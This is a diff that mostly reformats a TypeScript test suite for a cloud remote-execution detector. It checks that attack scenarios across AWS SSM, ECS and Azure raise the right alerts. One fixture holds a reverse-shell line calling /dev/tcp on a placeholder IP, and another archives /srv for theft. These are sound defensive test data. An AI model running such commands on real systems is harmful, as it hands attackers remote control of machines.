@@ -9,7 +9,8 @@ const LEARNING = { RUNWARDEN_LEARNING_DAYS: '7' }
 
 /** Friday of the third week, on which nothing ordinary is worth a mail. */
 const ATTACK_DAY = dateOf(18)
-const at = (hour: number, minute = 0): string => `${ATTACK_DAY}T${String(hour).padStart(2, '0')}:${String(minute).padStart(2, '0')}:00.000Z`
+const at = (hour: number, minute = 0): string =>
+  `${ATTACK_DAY}T${String(hour).padStart(2, '0')}:${String(minute).padStart(2, '0')}:00.000Z`
 
 const AUTOMATION = 'Microsoft.Automation/automationAccounts'
 const EXTENSION = 'Microsoft.Compute/virtualMachines/extensions/write'
@@ -18,7 +19,11 @@ const fleet = Array.from({ length: 6 }, (_, place) => instance(1_360 + place))
 const deploy = (ip: string) => role('Deploy', 'GitHubActions-1018', { ip, accessKeyId: 'ASIAEXAMPLEDEPLOY18' })
 const alice = (client: string) => person('alice@example.com', 0x11, { ip: ACCESS, client })
 
-const throughEvents = ({ userIdentity }: AwsCaller): AwsCaller => ({ userIdentity: { ...userIdentity, invokedBy: 'events.amazonaws.com' }, sourceIPAddress: 'events.amazonaws.com', userAgent: 'events.amazonaws.com' })
+const throughEvents = ({ userIdentity }: AwsCaller): AwsCaller => ({
+  userIdentity: { ...userIdentity, invokedBy: 'events.amazonaws.com' },
+  sourceIPAddress: 'events.amazonaws.com',
+  userAgent: 'events.amazonaws.com',
+})
 
 interface Stage {
   readonly name: string
@@ -28,17 +33,102 @@ interface Stage {
 }
 
 const STAGES: readonly Stage[] = [
-  { name: 'somebody new sends a command', tell: (told) => void told.send(at(1), user('mallory', { ip: ACCESS }), { instances: [fleet[0]!] }), expected: 'first-seen-caller medium' },
-  { name: 'somebody new through a service that others have long used', tell: (told) => void told.send(at(1), throughEvents(user('mallory', { ip: '' })), { instances: [fleet[0]!] }, ['/opt/rotate-logs.sh']), expected: 'first-seen-caller medium' },
-  { name: 'the pipeline\'s role through a VPN', tell: (told) => void told.send(at(1), deploy(VPN), { instances: [fleet[0]!] }), expected: 'anonymised-source high' },
-  { name: 'another script by the pipeline on its fleet', tell: (told) => void told.send(at(18), deploy(HOSTING), { instances: fleet }, ['tar czf /tmp/a.tgz /srv']), expected: 'mass-execution medium' },
-  { name: 'a reverse shell by the pipeline on one machine', tell: (told) => void told.send(at(18), deploy(HOSTING), { instances: [fleet[0]!] }, ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']), expected: 'suspicious-command high' },
-  { name: 'a document of another account', tell: (told) => void told.send(at(18), deploy(HOSTING), { instances: [fleet[0]!], document: `arn:aws:ssm:eu-west-1:${PARTNER_ACCOUNT}:document/Shop-Deploy` }), expected: 'delegated-admin high' },
-  { name: 'an association for all machines by the pipeline', tell: (told) => void told.trail.push(told.cloudTrail.call(at(18), deploy(HOSTING), 'ssm:CreateAssociation', { name: 'AWS-RunShellScript', scheduleExpression: 'rate(30 minutes)', targets: [{ key: 'InstanceIds', values: ['*'] }] }, {})), expected: 'broad-target-selector medium' },
-  { name: 'an association for many machines by those who make associations', tell: (told) => void told.trail.push(told.cloudTrail.call(at(18), role('Terraform', 'apply-18', { ip: ACCESS }), 'ssm:CreateAssociation', { name: 'AWS-RunShellScript', targets: [{ key: 'InstanceIds', values: fleet }] }, {})), expected: 'mass-execution medium' },
-  { name: 'a shell in a container with the role of a machine', tell: (told) => void told.trail.push(told.cloudTrail.call(at(1), role('Web', fleet[0]!, { ip: ACCESS }), 'ecs:ExecuteCommand', { cluster: 'shop', task: '0123456789abcdef0123456789abcdef', command: '/bin/sh', interactive: true }, {})), expected: 'machine-credentials-elsewhere high' },
-  { name: 'an Azure run command by somebody new', tell: (told) => told.operation(at(1), person('mallory@example.com', 0x66, { ip: ACCESS }), RUN, vm('vm-1')), expected: 'first-seen-caller medium' },
-  { name: 'a token of Office', tell: (told) => told.operation(at(1), alice(OFFICE), RUN, vm('vm-1')), expected: 'unexpected-client high' },
+  {
+    name: 'somebody new sends a command',
+    tell: (told) => void told.send(at(1), user('mallory', { ip: ACCESS }), { instances: [fleet[0]!] }),
+    expected: 'first-seen-caller medium',
+  },
+  {
+    name: 'somebody new through a service that others have long used',
+    tell: (told) =>
+      void told.send(at(1), throughEvents(user('mallory', { ip: '' })), { instances: [fleet[0]!] }, [
+        '/opt/rotate-logs.sh',
+      ]),
+    expected: 'first-seen-caller medium',
+  },
+  {
+    name: "the pipeline's role through a VPN",
+    tell: (told) => void told.send(at(1), deploy(VPN), { instances: [fleet[0]!] }),
+    expected: 'anonymised-source high',
+  },
+  {
+    name: 'another script by the pipeline on its fleet',
+    tell: (told) => void told.send(at(18), deploy(HOSTING), { instances: fleet }, ['tar czf /tmp/a.tgz /srv']),
+    expected: 'mass-execution medium',
+  },
+  {
+    name: 'a reverse shell by the pipeline on one machine',
+    tell: (told) =>
+      void told.send(at(18), deploy(HOSTING), { instances: [fleet[0]!] }, [
+        'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+      ]),
+    expected: 'suspicious-command high',
+  },
+  {
+    name: 'a document of another account',
+    tell: (told) =>
+      void told.send(at(18), deploy(HOSTING), {
+        instances: [fleet[0]!],
+        document: `arn:aws:ssm:eu-west-1:${PARTNER_ACCOUNT}:document/Shop-Deploy`,
+      }),
+    expected: 'delegated-admin high',
+  },
+  {
+    name: 'an association for all machines by the pipeline',
+    tell: (told) =>
+      void told.trail.push(
+        told.cloudTrail.call(
+          at(18),
+          deploy(HOSTING),
+          'ssm:CreateAssociation',
+          {
+            name: 'AWS-RunShellScript',
+            scheduleExpression: 'rate(30 minutes)',
+            targets: [{ key: 'InstanceIds', values: ['*'] }],
+          },
+          {},
+        ),
+      ),
+    expected: 'broad-target-selector medium',
+  },
+  {
+    name: 'an association for many machines by those who make associations',
+    tell: (told) =>
+      void told.trail.push(
+        told.cloudTrail.call(
+          at(18),
+          role('Terraform', 'apply-18', { ip: ACCESS }),
+          'ssm:CreateAssociation',
+          { name: 'AWS-RunShellScript', targets: [{ key: 'InstanceIds', values: fleet }] },
+          {},
+        ),
+      ),
+    expected: 'mass-execution medium',
+  },
+  {
+    name: 'a shell in a container with the role of a machine',
+    tell: (told) =>
+      void told.trail.push(
+        told.cloudTrail.call(
+          at(1),
+          role('Web', fleet[0]!, { ip: ACCESS }),
+          'ecs:ExecuteCommand',
+          { cluster: 'shop', task: '0123456789abcdef0123456789abcdef', command: '/bin/sh', interactive: true },
+          {},
+        ),
+      ),
+    expected: 'machine-credentials-elsewhere high',
+  },
+  {
+    name: 'an Azure run command by somebody new',
+    tell: (told) => told.operation(at(1), person('mallory@example.com', 0x66, { ip: ACCESS }), RUN, vm('vm-1')),
+    expected: 'first-seen-caller medium',
+  },
+  {
+    name: 'a token of Office',
+    tell: (told) => told.operation(at(1), alice(OFFICE), RUN, vm('vm-1')),
+    expected: 'unexpected-client high',
+  },
   {
     name: 'a runbook by somebody who never wrote one',
     tell: (told) => {
@@ -47,7 +137,14 @@ const STAGES: readonly Stage[] = [
     },
     expected: 'automation-runbook medium',
   },
-  { name: 'a script extension by who rolls out agents', tell: (told) => told.operation(at(1), application(0x31, ACCESS), EXTENSION, `${vm('vm-1')}/extensions/AzureMonitorLinuxAgent`, { requestBody: { properties: { publisher: 'Microsoft.Azure.Extensions', type: 'CustomScript' } } }), expected: 'first-seen-caller medium' },
+  {
+    name: 'a script extension by who rolls out agents',
+    tell: (told) =>
+      told.operation(at(1), application(0x31, ACCESS), EXTENSION, `${vm('vm-1')}/extensions/AzureMonitorLinuxAgent`, {
+        requestBody: { properties: { publisher: 'Microsoft.Azure.Extensions', type: 'CustomScript' } },
+      }),
+    expected: 'first-seen-caller medium',
+  },
 ]
 
 const weekOf = (time: string): number => [1, 2, 3, 4].find((week) => time.slice(0, 10) < dateOf(7 * week)) ?? 0
@@ -57,10 +154,24 @@ describe('four ordinary weeks', () => {
     const told = story()
     tellOrdinaryMonth(told)
     const { alerts, activities } = await scanStory(told, LEARNING)
-    const mails = (week: number): readonly string[] => alerts.filter(({ time }) => weekOf(time) === week).map(({ actor, findings }) => `${actor.display}: ${findings.filter(({ severity }) => severity === 'medium').map(({ title }) => title).join(' and ')}`)
+    const mails = (week: number): readonly string[] =>
+      alerts
+        .filter(({ time }) => weekOf(time) === week)
+        .map(
+          ({ actor, findings }) =>
+            `${actor.display}: ${findings
+              .filter(({ severity }) => severity === 'medium')
+              .map(({ title }) => title)
+              .join(' and ')}`,
+        )
     expect(activities).toBeGreaterThan(500)
     // The fleet at its largest, and what infrastructure code does on Mondays, a little later than a week before.
-    const rare = ['role/Terraform: First Seen Caller and Broad Target Selector', 'role/Deploy: Mass Execution', 'app/00000000-0000-0000-0000-000000000c21: Mass Execution', 'role/Rollout: Mass Execution']
+    const rare = [
+      'role/Terraform: First Seen Caller and Broad Target Selector',
+      'role/Deploy: Mass Execution',
+      'app/00000000-0000-0000-0000-000000000c21: Mass Execution',
+      'role/Rollout: Mass Execution',
+    ]
     expect([mails(2), mails(3), mails(4)]).toEqual([rare, rare, []])
     expect(alerts.filter(({ time }) => time.startsWith(ATTACK_DAY))).toEqual([])
   })
@@ -69,15 +180,27 @@ describe('four ordinary weeks', () => {
     const told = story()
     tellOrdinaryMonth(told)
     const { alerts } = await scanStory(told, { ...LEARNING, RUNWARDEN_HISTORY_DAYS: '15' })
-    expect(alerts.filter(({ time, findings }) => weekOf(time) > 1 && findings.some(({ rule, risk }) => rule.endsWith('first-seen-caller') && risk > 0))).toEqual([])
+    expect(
+      alerts.filter(
+        ({ time, findings }) =>
+          weekOf(time) > 1 && findings.some(({ rule, risk }) => rule.endsWith('first-seen-caller') && risk > 0),
+      ),
+    ).toEqual([])
   })
 
-  it.each(STAGES.map((stage) => [stage.name, stage] as const))('hide nothing of an attack: %s', async (_name, { tell, expected }) => {
-    const told = story()
-    tellOrdinaryMonth(told)
-    tell(told)
-    const { alerts } = await scanStory(told, LEARNING)
-    const spoken = alerts.filter(({ time }) => time.startsWith(ATTACK_DAY)).flatMap(({ findings }) => findings.map(({ rule, severity }) => `${rule.replace(/^runwarden\.\w+\./, '')} ${severity}`))
-    expect(spoken).toContain(expected)
-  })
+  it.each(STAGES.map((stage) => [stage.name, stage] as const))(
+    'hide nothing of an attack: %s',
+    async (_name, { tell, expected }) => {
+      const told = story()
+      tellOrdinaryMonth(told)
+      tell(told)
+      const { alerts } = await scanStory(told, LEARNING)
+      const spoken = alerts
+        .filter(({ time }) => time.startsWith(ATTACK_DAY))
+        .flatMap(({ findings }) =>
+          findings.map(({ rule, severity }) => `${rule.replace(/^runwarden\.\w+\./, '')} ${severity}`),
+        )
+      expect(spoken).toContain(expected)
+    },
+  )
 })
